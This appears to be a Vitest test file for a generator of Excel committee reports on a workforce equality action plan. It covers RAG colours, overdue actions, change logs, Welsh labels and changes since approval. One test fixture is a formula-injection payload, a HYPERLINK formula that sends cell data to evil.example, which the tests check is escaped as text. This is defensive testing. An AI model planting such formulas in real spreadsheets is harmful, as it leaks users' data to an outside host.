import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { changesSince } from "../../../src/plan/changes";
import { compareWithApproved } from "../../../src/plan/cycle/since-approval";
import type { ProgressUpdate, Rag } from "../../../src/plan/types";
import { committeeWorkbook, RAG_COLOURS } from "../../../src/reports/committee-xlsx";
import { amara, planWriter, tom, update as anUpdate } from "../../support/plan-fixtures";

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

const { objective, action } = planWriter({ owner: amara, lead: tom, modified: "2024-10-01T00:00:00Z" });

function update(
  id: number,
  actionId: number,
  date: string,
  previousRag: Rag | null,
  rag: Rag | null,
  note: string | null,
): ProgressUpdate {
  return anUpdate(actionId, date, previousRag, rag, { id, author: tom, note });
}

const objectives = [
  objective(1, "1", "Representation at senior levels"),
  objective(2, "2", HOSTILE, { owner: null }),
  objective(3, "3", "Not begun"),
];
const actions = [
  action(11, 1, "1.1", "Reverse mentoring", "Green", { progress: "12 pairs matched" }),
  action(12, 1, "1.2", "Diverse panels", "Red", { dueDate: "2024-11-30", leadText: "Head of Resourcing" }),
  action(13, 1, "1.3", "Publish data", "Blue"),
  action(21, 2, "2.1", "-1+1 reduce cases", "Amber", { progress: "@mention the chair" }),
];
const updates = [
  update(1, 11, "2024-10-15T09:00:00Z", "Amber", "Green", "Pairs matched"),
  update(2, 13, "2024-11-02T09:00:00Z", "Green", "Blue", "Published on the intranet"),
  update(3, 21, "2024-11-20T09:00:00Z", "Amber", "Amber", "+44 new cases reviewed"),
];
const today = "2024-12-05";
const since = "2024-10-01";

function texts(ws: ExcelJS.Worksheet): string[] {
  const out: string[] = [];
  ws.eachRow((row) =>
    row.eachCell((cell) => {
      if (typeof cell.value === "string") out.push(cell.value);
      else if (cell.value && typeof cell.value === "object" && "text" in cell.value) out.push(String(cell.value.text));
    }),
  );
  return out;
}

function findCell(ws: ExcelJS.Worksheet, value: string): ExcelJS.Cell {
  let found: ExcelJS.Cell | null = null;
  ws.eachRow((row) =>
    row.eachCell((cell) => {
      if (!found && cell.value === value) found = cell;
    }),
  );
  if (!found) throw new Error(`no cell ${value} on ${ws.name}`);
  return found;
}

function rowOf(ws: ExcelJS.Worksheet, firstCell: string): ExcelJS.Row {
  let found: ExcelJS.Row | null = null;
  ws.eachRow((row) => {
    if (!found && row.getCell(1).value === firstCell) found = row;
  });
  if (!found) throw new Error(`no row ${firstCell} on ${ws.name}`);
  return found;
}

describe("committeeWorkbook", () => {
  const wb = new ExcelJS.Workbook();
  beforeAll(async () => {
    const bytes = await committeeWorkbook({
      year: "2024/25",
      objectives,
      actions,
      lastUpdates: {
        11: updates[0] as ProgressUpdate,
        13: updates[1] as ProgressUpdate,
        21: updates[2] as ProgressUpdate,
      },
      changes: changesSince(updates, actions, since, today),
      since,
      today,
    });
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  });

  it("has a summary sheet and one sheet per objective, in number order", () => {
    expect(wb.worksheets.map((ws) => ws.name)).toEqual([
      "Summary",
      "1 Representation at senior leve",
      '2 =HYPERLINK("http evil.example',
      "3 Not begun",
    ]);
  });

  it("counts actions by RAG and overdue on the summary", () => {
    const summary = wb.getWorksheet("Summary") as ExcelJS.Worksheet;
    expect(texts(summary)[0]).toBe("WRES action plan 2024/25: committee report");
    expect(rowOf(summary, "Red").getCell(2).value).toBe(1);
    expect(rowOf(summary, "Blue (complete)").getCell(2).value).toBe(1);
    expect(rowOf(summary, "Total").getCell(2).value).toBe(4);
    expect(rowOf(summary, "Overdue").getCell(2).value).toBe(1);
  });

  it("lists each objective with its rolled-up RAG, as text and colour, and its owner", () => {
    const summary = wb.getWorksheet("Summary") as ExcelJS.Worksheet;
    const first = rowOf(summary, "1");
    expect(first.getCell(3).value).toBe("Amara Okafor");
    expect(first.getCell(4).value).toBe("Red");
    expect(first.getCell(4).fill).toMatchObject({
      type: "pattern",
      pattern: "solid",
      fgColor: { argb: RAG_COLOURS.Red.fill },
    });
    expect(first.getCell(4).font?.color).toEqual({ argb: RAG_COLOURS.Red.text });
    expect(rowOf(summary, "3").getCell(4).value).toBe("Not started");
  });

  it("shows the changes since the chosen date", () => {
    const summary = wb.getWorksheet("Summary") as ExcelJS.Worksheet;
    const all = texts(summary);
    expect(all).toContain("Changes since 2024-10-01");
    expect(all).toEqual(
      expect.arrayContaining(["Pairs matched", "Published on the intranet", "'+44 new cases reviewed"]),
    );
    // 1.2 fell due on 30 November, after the chosen date: newly overdue.
    const overdueHeader = findCell(summary, "Newly overdue");
    const overdueRow = summary.getRow(Number(overdueHeader.row) + 2);
    expect([overdueRow.getCell(1).value, overdueRow.getCell(2).value, overdueRow.getCell(4).value]).toEqual([
      "1.2",
      "Diverse panels",
      "Tom Hughes; Head of Resourcing",
    ]);
    const move = rowOf(summary, "1.1");
    expect([move.getCell(3).value, move.getCell(4).value]).toEqual(["Amber", "Green"]);
    expect(move.getCell(4).fill).toMatchObject({ fgColor: { argb: RAG_COLOURS.Green.fill } });
  });

  it("writes each objective's actions with leads, due date, RAG colour, progress and last update", () => {
    const sheet = wb.getWorksheet("1 Representation at senior leve") as ExcelJS.Worksheet;
    const row = rowOf(sheet, "1.1");
    expect(row.getCell(2).value).toBe("Reverse mentoring");
    expect(row.getCell(3).value).toBe("Tom Hughes");
    expect(row.getCell(4).value).toEqual(new Date(Date.UTC(2025, 2, 31)));
    expect(row.getCell(5).value).toBe("Green");
    expect(row.getCell(5).fill).toMatchObject({ fgColor: { argb: RAG_COLOURS.Green.fill } });
    expect(row.getCell(6).value).toBe("12 pairs matched");
    expect(row.getCell(7).value).toEqual(new Date(Date.UTC(2024, 9, 15)));
    expect(row.getCell(8).value).toBe("Pairs matched");
    const blue = rowOf(sheet, "1.3");
    expect(blue.getCell(5).value).toBe("Blue (complete)");
    expect(blue.getCell(5).fill).toMatchObject({ fgColor: { argb: RAG_COLOURS.Blue.fill } });
    expect(blue.getCell(5).font?.color).toEqual({ argb: "FFFFFFFF" });
  });

  it("leaves no cell starting with = + - or @ unescaped, and keeps a hostile title as text", () => {
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          const text =
            typeof cell.value === "string"
              ? cell.value
              : cell.value && typeof cell.value === "object" && "text" in cell.value
                ? String(cell.value.text)
                : null;
          if (text !== null) expect(text, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@]/);
        }),
      );
    }
    const sheet = wb.worksheets[2] as ExcelJS.Worksheet;
    expect(texts(sheet)[0]).toBe(`2 ${HOSTILE}`);
    expect(texts(wb.getWorksheet("Summary") as ExcelJS.Worksheet)).toContain(`'${HOSTILE}`);
    expect(rowOf(sheet, "2.1").getCell(2).value).toBe("'-1+1 reduce cases");
    expect(rowOf(sheet, "2.1").getCell(6).value).toBe("'@mention the chair");
  });

  it("takes display words from the labels the tab passes", async () => {
    const bytes = await committeeWorkbook({
      year: "2024/25",
      objectives,
      actions,
      lastUpdates: {},
      changes: changesSince([], actions, since, today),
      since,
      today,
      labels: { summarySheet: "Crynodeb", rag: { Red: "Coch", Amber: "Ambr", Green: "Gwyrdd", Blue: "Glas" } },
    });
    const welsh = new ExcelJS.Workbook();
    await welsh.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const summary = welsh.getWorksheet("Crynodeb") as ExcelJS.Worksheet;
    expect(rowOf(summary, "1").getCell(4).value).toBe("Coch");
    expect(texts(summary)).toContain("None");
  });
});

describe("committeeWorkbook after a plan import", () => {
  it("lists the plan imported instead of a RAG change per action", async () => {
    const imported = actions.map((a, i) => ({
      id: 900 + i,
      actionId: a.id,
      author: { id: 3, title: "Jordan Ellis", email: null },
      date: `${today}T09:00:00Z`,
      rag: a.rag,
      previousRag: null,
      note: "Plan 2024-25.xlsx",
      progress: null,
      kind: "import" as const,
    }));
    const bytes = await committeeWorkbook({
      year: "2024/25",
      objectives,
      actions,
      lastUpdates: {},
      changes: changesSince(imported, actions, since, today),
      since,
      today,
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const summary = book.getWorksheet("Summary") as ExcelJS.Worksheet;
    const row = rowOf(summary, "Imported from Plan 2024-25.xlsx");
    expect(row.getCell(3).value).toBe("Jordan Ellis");
    expect(row.getCell(4).value).toBe(actions.length);
    const header = rowOf(summary, "RAG changes");
    expect(summary.getRow(header.number + 2).getCell(1).value).toBe("None");
  });
});

describe("the committee workbook against the approved plan", () => {
  async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    return wb;
  }
  const input = {
    year: "2024/25",
    objectives,
    lastUpdates: {},
    changes: changesSince([], actions, since, today),
    since,
    today,
  };

  it("has a Since approval sheet listing each action added, removed, re-dated or re-scoped, with RAG then and now", async () => {
    // Approved: 1.1, 1.2, 1.3, 2.1. Since: 1.2 re-dated and moved to Amber, 1.3 removed, 2.1 re-scoped, 1.4 added.
    const approved = { approvedAt: "2024-11-01T10:00:00Z", objectives, actions };
    const live = [
      actions[0]!,
      { ...actions[1]!, dueDate: "2025-06-30", rag: "Amber" as Rag },
      { ...actions[3]!, kpis: "Cases per 1,000 staff" },
      action(14, 1, "1.4", "Board development session", "Green"),
    ];
    const wb = await load(
      await committeeWorkbook({
        ...input,
        actions: live,
        sinceApproval: compareWithApproved(approved, { objectives, actions: live }),
      }),
    );
    expect(wb.worksheets.map((w) => w.name).slice(0, 2)).toEqual(["Summary", "Since approval"]);
    const sheet = wb.getWorksheet("Since approval")!;
    expect(sheet.getCell("A1").value).toBe("Changes since the plan was approved on 2024-11-01");
    const redated = rowOf(sheet, "1.2");
    expect(redated.getCell(3).value).toBe("In the approved plan");
    expect((redated.getCell(4).value as Date).toISOString().slice(0, 10)).toBe("2024-11-30");
    expect((redated.getCell(5).value as Date).toISOString().slice(0, 10)).toBe("2025-06-30");
    expect([redated.getCell(9).value, redated.getCell(10).value]).toEqual(["Red", "Amber"]);
    expect(rowOf(sheet, "1.3").getCell(3).value).toBe("Removed since approval");
    expect(rowOf(sheet, "1.3").getCell(10).value).toBeNull();
    expect(rowOf(sheet, "1.4").getCell(3).value).toBe("Added since approval");
    expect(rowOf(sheet, "1.4").getCell(9).value).toBeNull();
    expect(rowOf(sheet, "2.1").getCell(6).value).toBe("KPIs");
    // 1.1 did not change, so it is not listed.
    expect(() => rowOf(sheet, "1.1")).toThrow();
  });

  it("says so when nothing changed, and has no such sheet for a year not yet approved", async () => {
    const same = await load(
      await committeeWorkbook({
        ...input,
        actions,
        sinceApproval: compareWithApproved(
          { approvedAt: "2024-11-01T10:00:00Z", objectives, actions },
          { objectives, actions },
        ),
      }),
    );
    expect(texts(same.getWorksheet("Since approval")!)).toContain("Nothing has changed since approval.");
    const draft = await load(await committeeWorkbook({ ...input, actions, sinceApproval: null }));
    expect(draft.getWorksheet("Since approval")).toBeUndefined();
  });
});
